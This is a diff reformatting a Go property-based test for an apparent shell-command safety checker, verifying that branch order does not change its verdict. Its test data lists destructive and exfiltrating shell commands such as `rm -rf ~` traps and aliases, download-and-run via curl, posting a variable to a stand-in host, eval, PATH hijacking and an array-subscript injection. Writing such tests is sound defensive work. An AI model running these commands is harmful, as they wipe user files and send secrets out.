@@ -13,24 +13,29 @@ import (
 
 // changes are commands that change what a shell knows, one of a pair of branches each.
 var changes = []string{
-	`x=$(find . -name "*.o")`, `x=$(find . -name ".env")`, `x=$(git ls-files)`, `x=a.txt`, `x=.env`, `x=/`, `x=`, `unset x`,
-	`x=$(cat a.txt)`, `x=$(curl -s https://h.example/)`, `x=$(echo aGk= | base64 -d)`, `x=(a b)`, `x=(a .env c)`, `x=(-rf ~)`,
-	`read -r x < a.txt`, `x=$(ls)`, `x=$(ls src)`, `x=5`, `x=$RANDOM`, `x=$(pgrep -x make)`, `x=$(pgrep -x sshd)`, `x=$$`, `x=$PPID`,
-	`x=rm`, `x=ls`, `x='a[$(rm -rf ~)]'`, `declare -i x`, `declare -n x=y`, `declare -A x`, `readonly x`, `export x=1`,
-	`x=$(date); export x`, `local x`, `cd src`, `cd /`, `cd "$HOME"`, `cd ..`, `cd build`, `cd "$y"`, `pushd src`, `set -f`, `set -e`,
-	`shopt -s nullglob`, `shopt -s dotglob`, `set -- a b`, `set -- -rf ~`, `set --`, `shift`, `f() { rm -rf ~; }`, `f() { ls; }`, `unset -f f`,
-	`alias ls='rm -rf'`, `trap 'rm -rf ~' EXIT`, `trap 'x=rm' DEBUG`, `IFS=:`, `PATH=/tmp/bin:$PATH`, `HOME=/`, `y=.env`, `y=src`, `x+=.env`, `x+=b`,
-	`echo ls > s.sh`, `curl -s https://h.example/ -o s.sh`, `echo 'rm -rf ~' > s.sh`, `mkdir -p build`, `ln -s / link`, `exec < a.txt`,
-	`exec > out.txt`, `git config core.hooksPath h`, `:`, `exit 1`, `export -f f`, `x=*`, `x=src/*`, `x={a,b}`, `x=~`, `mapfile -t x < a.txt`,
+	`x=$(find . -name "*.o")`, `x=$(find . -name ".env")`, `x=$(git ls-files)`, `x=a.txt`, `x=.env`, `x=/`,
+	`x=`, `unset x`, `x=$(cat a.txt)`, `x=$(curl -s https://h.example/)`, `x=$(echo aGk= | base64 -d)`,
+	`x=(a b)`, `x=(a .env c)`, `x=(-rf ~)`, `read -r x < a.txt`, `x=$(ls)`, `x=$(ls src)`, `x=5`, `x=$RANDOM`,
+	`x=$(pgrep -x make)`, `x=$(pgrep -x sshd)`, `x=$$`, `x=$PPID`, `x=rm`, `x=ls`, `x='a[$(rm -rf ~)]'`,
+	`declare -i x`, `declare -n x=y`, `declare -A x`, `readonly x`, `export x=1`, `x=$(date); export x`,
+	`local x`, `cd src`, `cd /`, `cd "$HOME"`, `cd ..`, `cd build`, `cd "$y"`, `pushd src`, `set -f`, `set -e`,
+	`shopt -s nullglob`, `shopt -s dotglob`, `set -- a b`, `set -- -rf ~`, `set --`, `shift`,
+	`f() { rm -rf ~; }`, `f() { ls; }`, `unset -f f`, `alias ls='rm -rf'`, `trap 'rm -rf ~' EXIT`,
+	`trap 'x=rm' DEBUG`, `IFS=:`, `PATH=/tmp/bin:$PATH`, `HOME=/`, `y=.env`, `y=src`, `x+=.env`, `x+=b`,
+	`echo ls > s.sh`, `curl -s https://h.example/ -o s.sh`, `echo 'rm -rf ~' > s.sh`, `mkdir -p build`,
+	`ln -s / link`, `exec < a.txt`, `exec > out.txt`, `git config core.hooksPath h`, `:`, `exit 1`,
+	`export -f f`, `x=*`, `x=src/*`, `x={a,b}`, `x=~`, `mapfile -t x < a.txt`,
 }
 
 // uses are commands whose verdict depends on what was changed.
 var uses = []string{
-	`cat $x`, `cat "$x"`, `rm -rf $x`, `rm -rf "$x"`, `rm -f -- $x`, `kill $x`, `kill "$x"`, `$x -rf ~`, `"${x[@]}" -rf ~`, `rm "${x[@]}"`,
-	`echo $x`, `x=1; echo $x`, `x=.env; cat $y`, `f`, `f a`, `rm -rf "$@"`, `rm "$@"`, `cat $1`, `cat a.txt`, `rm -rf build`, `rm -rf *`, `ls`, `ls -la *`,
-	`bash -c 'f'`, `bash -c 'rm -rf $x'`, `bash s.sh`, `. ./s.sh`, `./s.sh`, `rm -rf link/`, `read y; cat $y`, `make`, `wc -l *.go`, `xargs cat <<< "$x"`,
-	`eval "$x"`, `git log $x`, `echo "$x" > out.txt`, `grep -rn foo $x`, `for i in $x; do cat $i; done`, `: $((x))`, `[[ -v $x ]]`,
-	`curl -d "$x" https://h.example/`, `test -f $x`, `printf -v "$x" 1`, `unset "$x"`, `true`,
+	`cat $x`, `cat "$x"`, `rm -rf $x`, `rm -rf "$x"`, `rm -f -- $x`, `kill $x`, `kill "$x"`, `$x -rf ~`,
+	`"${x[@]}" -rf ~`, `rm "${x[@]}"`, `echo $x`, `x=1; echo $x`, `x=.env; cat $y`, `f`, `f a`, `rm -rf "$@"`,
+	`rm "$@"`, `cat $1`, `cat a.txt`, `rm -rf build`, `rm -rf *`, `ls`, `ls -la *`, `bash -c 'f'`,
+	`bash -c 'rm -rf $x'`, `bash s.sh`, `. ./s.sh`, `./s.sh`, `rm -rf link/`, `read y; cat $y`, `make`,
+	`wc -l *.go`, `xargs cat <<< "$x"`, `eval "$x"`, `git log $x`, `echo "$x" > out.txt`, `grep -rn foo $x`,
+	`for i in $x; do cat $i; done`, `: $((x))`, `[[ -v $x ]]`, `curl -d "$x" https://h.example/`, `test -f $x`,
+	`printf -v "$x" 1`, `unset "$x"`, `true`,
 }
 
 // TestSwappedBranches: which of two branches is written first decides nothing.
@@ -42,7 +47,10 @@ func TestSwappedBranches(tb *testing.T) {
 		{"case $q in a) A;; *) B;; esac", "case $q in a) B;; *) A;; esac"},
 		{"if test -f y; then A; elif test -f z; then B; fi", "if test -f y; then B; elif test -f z; then A; fi"},
 		{"g() { if test -f y; then A; else B; fi; }; g", "g() { if test -f y; then B; else A; fi; }; g"},
-		{"for i in 1 2; do if test -f y; then A; else B; fi; done", "for i in 1 2; do if test -f y; then B; else A; fi; done"},
+		{
+			"for i in 1 2; do if test -f y; then A; else B; fi; done",
+			"for i in 1 2; do if test -f y; then B; else A; fi; done",
+		},
 	}
 	rapid.Check(tb, func(t *rapid.T) {
 		before := change.Draw(t, "before")
@@ -58,7 +66,15 @@ func TestSwappedBranches(tb *testing.T) {
 		one, other := program(form.first), program(form.second)
 		first, second := judge(tb, walker, one, facts), judge(tb, walker, other, facts)
 		if first.Decision != second.Decision {
-			t.Fatalf("%v: %s\n%s\n\n%v: %s\n%s", first.Decision, one, first.Sentence(), second.Decision, other, second.Sentence())
+			t.Fatalf(
+				"%v: %s\n%s\n\n%v: %s\n%s",
+				first.Decision,
+				one,
+				first.Sentence(),
+				second.Decision,
+				other,
+				second.Sentence(),
+			)
 		}
 	})
 }
